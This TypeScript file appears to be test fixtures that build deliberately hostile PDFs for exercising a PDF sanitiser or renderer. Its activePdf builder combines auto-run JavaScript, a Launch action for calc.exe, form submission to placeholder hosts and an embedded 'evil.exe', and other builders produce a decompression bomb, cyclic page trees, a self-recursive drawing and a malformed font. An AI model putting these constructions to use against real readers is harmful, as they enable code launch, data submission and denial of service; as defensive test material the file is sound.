import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';

/** A PDF of these objects, numbered from 1; the first is the catalog. */
function rawPdf(objects: readonly (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  for (const [index, object] of objects.entries()) {
    offsets.push(length());
    parts.push(Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n'));
  }
  const at = length();
  const lines = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`);
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines.join('')}` +
        `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const streamOf = (dictionary: string, data: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ]);
const page = (more: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] ${more} >>`;
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const text = (words: string) => streamOf('', Buffer.from(`BT /F1 20 Tf 20 100 Td (${words}) Tj ET`));
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** Everything that a PDF can do by itself when it is opened, looked at, or filled in. */
export const activePdf = (): Buffer =>
  rawPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R /DP 6 0 R >>
      /AcroForm << /Fields [9 0 R] /XFA 10 0 R /NeedAppearances true >>
      /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(evil.exe) 11 0 R] >> >> >>`,
    pages,
    page(`/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O 7 0 R >> /Annots [8 0 R 9 0 R]`),
    text('ACTIVE'),
    font,
    '<< /S /JavaScript /JS (app.alert\\("x"\\); app.launchURL\\("https://example.invalid/js"\\); this.submitForm\\("https://example.invalid/submit"\\);) /Next 7 0 R >>',
    '<< /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> /Next << /S /GoToE /F (https://example.invalid/e.pdf) /T << /R /C /N (evil.exe) >> >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (https://example.invalid/uri) >> /AA << /E 6 0 R >> >>',
    '<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [10 10 90 40] /A << /S /SubmitForm /F (https://example.invalid/form) >> /MK << /CA (Send) >> >>',
    streamOf(
      '',
      Buffer.from(
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script></template></xdp:xdp>',
      ),
    ),
    '<< /Type /Filespec /F (evil.exe) /EF << /F 12 0 R >> >>',
    streamOf('/Type /EmbeddedFile', Buffer.from('MZ evil')),
  ]);

export const hugeImagePdf = (): Buffer =>
  rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    pages,
    page('/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>'),
    streamOf('', Buffer.from('q 300 0 0 200 0 0 cm /X Do Q')),
    streamOf(
      '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
      deflateSync(Buffer.alloc(20_000_000)),
    ),
  ]);

export const endlessPagesPdf = (): Buffer =>
  rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 1000000 /Parent 2 0 R >>',
    '<< /Type /Pages /Kids [2 0 R] /Count 500000 /Parent 2 0 R >>',
  ]);

/** A drawing that draws itself, twice. */
export const endlessDrawingPdf = (): Buffer =>
  rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    pages,
    page('/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>'),
    streamOf('', Buffer.from('/X Do')),
    streamOf(
      '/Type /XObject /Subtype /Form /BBox [0 0 300 200] /Resources << /XObject << /X 5 0 R >> >>',
      Buffer.from('/X Do /X Do'),
    ),
  ]);

export const badFontPdf = (): Buffer =>
  rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    pages,
    page('/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>'),
    text('BADFONT'),
    '<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FirstChar 32 /LastChar 126 /FontDescriptor 6 0 R >>',
    '<< /Type /FontDescriptor /FontName /Evil /Flags 32 /FontFile2 7 0 R /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 >>',
    streamOf('/Length1 60000', Buffer.concat([Buffer.from('00010000ffff', 'hex'), Buffer.alloc(60_000, 0xfe)])),
  ]);

export const lockedPdf = (): Buffer => {
  const folder = mkdtempSync(join(tmpdir(), 'lpa-locked-'));
  try {
    const [plain, closed] = [join(folder, 'plain.pdf'), join(folder, 'closed.pdf')];
    writeFileSync(plain, activePdf());
    execFileSync('qpdf', ['--encrypt', 'reader', 'owner', '256', '--', plain, closed]);
    return readFileSync(closed);
  } finally {
    rmSync(folder, { recursive: true });
  }
};
